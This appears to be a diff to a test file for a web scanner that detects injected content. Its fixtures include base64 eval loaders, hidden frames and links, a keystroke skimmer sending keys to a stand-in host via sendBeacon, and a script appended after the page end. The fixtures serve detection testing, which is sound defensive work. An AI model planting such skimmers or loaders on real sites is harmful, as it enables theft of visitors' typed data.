@@ -7,14 +7,14 @@ const FAR = 'cdn.far-7.example';
 const shown = (body: string, head = '') =>
   `<!doctype html><html lang="en"><head><title>Lamps</title>${head}</head><body><h1>Lamps</h1><p>Welcome to our lamp shop</p>${body}</body></html>`;
 
-function gradesOf(html: string, type = 'text/html') {
+function listConfidences(html: string, type = 'text/html') {
   const exchange = capturedPage({ url: `${ORIGIN}/`, body: html });
   const typed = {
     ...exchange,
     response: { ...exchange.response, headers: [['Content-Type', type] as const] },
   };
   const findings = injectedContent.run(typed, { origin: ORIGIN, isBehindLogin: false });
-  return findings.map(({ titleKey, grade }) => `${titleKey.split('.')[1]} ${grade}`);
+  return findings.map(({ titleKey, confidence }) => `${titleKey.split('.')[1]} ${confidence}`);
 }
 const script = (code: string) => `<script>${code}</script>`;
 const base64 = (text: string) => Buffer.from(text).toString('base64');
@@ -89,11 +89,11 @@ describe('code that is hidden in other ways', () => {
     ['in front of an exception', `try{undefinedThing.x()}catch(e){eval(atob('${base64(LOAD)}'))}`],
     ['a class of its own', `class Z{};const z=\`\${atob('${base64(LOAD)}')}\`;new Function(z)()`],
   ])('%s', (_name, code) => {
-    expect(gradesOf(shown(script(code)))).toContain('hiddenCode CONFIRMED');
+    expect(listConfidences(shown(script(code)))).toContain('hiddenCode CONFIRMED');
   });
 
   it('in the attribute of an element', () => {
-    expect(gradesOf(shown(`<svg onload="eval(atob('${base64(LOAD)}'))"></svg>`))).toContain(
+    expect(listConfidences(shown(`<svg onload="eval(atob('${base64(LOAD)}'))"></svg>`))).toContain(
       'hiddenCode CONFIRMED',
     );
   });
@@ -102,7 +102,7 @@ describe('code that is hidden in other ways', () => {
     `${'function menu(a){return a+1}\n'.repeat(12_000)}${`eval(atob('${base64(LOAD)}'))`}`,
     `eval(atob('${base64(LOAD)}'));${'function m(a){return a+1};'.repeat(12_000)}`,
   ])('at an end of a long script', (code) => {
-    expect(gradesOf(code, 'application/javascript')).toContain('hiddenCode CONFIRMED');
+    expect(listConfidences(code, 'application/javascript')).toContain('hiddenCode CONFIRMED');
   });
 });
 
@@ -142,7 +142,7 @@ describe('frames that are hidden in other ways', () => {
     ],
     ['embedded', `<embed src="https://${FAR}/x.html" width="0" height="0">`],
   ])('%s', (_name, body, head = '') => {
-    expect(gradesOf(shown(body, head)).join()).toMatch(/hiddenFrame/);
+    expect(listConfidences(shown(body, head)).join()).toMatch(/hiddenFrame/);
   });
 });
 
@@ -170,7 +170,7 @@ describe('links that are hidden in other ways', () => {
     ],
     ['a frame of marquee', `<marquee width=1 height=4>${links}</marquee>`],
   ])('%s', (_name, body, head = '') => {
-    expect(gradesOf(shown(body, head))).toContain('hiddenLinks CONFIRMED');
+    expect(listConfidences(shown(body, head))).toContain('hiddenLinks CONFIRMED');
   });
 });
 
@@ -196,7 +196,7 @@ describe('what is typed goes elsewhere in other ways', () => {
     ],
     ['key by key', `document.onkeyup=function(event){navigator.sendBeacon('https://${FAR}/k',event.key)}`],
   ])('%s', (_name, code) => {
-    expect(gradesOf(shown(CARD + script(code)))).toContain('skimmer CONFIRMED');
+    expect(listConfidences(shown(CARD + script(code)))).toContain('skimmer CONFIRMED');
   });
 });
 
@@ -250,16 +250,16 @@ describe('hosts and places', () => {
       'visitorRedirect CONFIRMED',
     ],
   ])('%s', (_name, body, expected) => {
-    expect(gradesOf(shown(body))).toContain(expected);
+    expect(listConfidences(shown(body))).toContain(expected);
   });
 
   it('a script behind the end, after a comment', () => {
-    expect(gradesOf(`${shown('')}\n<!-- c --><script src='//${FAR}/a.js'></script>`)).toContain(
+    expect(listConfidences(`${shown('')}\n<!-- c --><script src='//${FAR}/a.js'></script>`)).toContain(
       'outsideDocument CONFIRMED',
     );
   });
   it('a title whose page speaks of lamps', () => {
     const html = shown('').replace('Lamps</title>', 'Online casino slots – best betting bonus</title>');
-    expect(gradesOf(html)).toContain('foreignTitle CONFIRMED');
+    expect(listConfidences(html)).toContain('foreignTitle CONFIRMED');
   });
 });
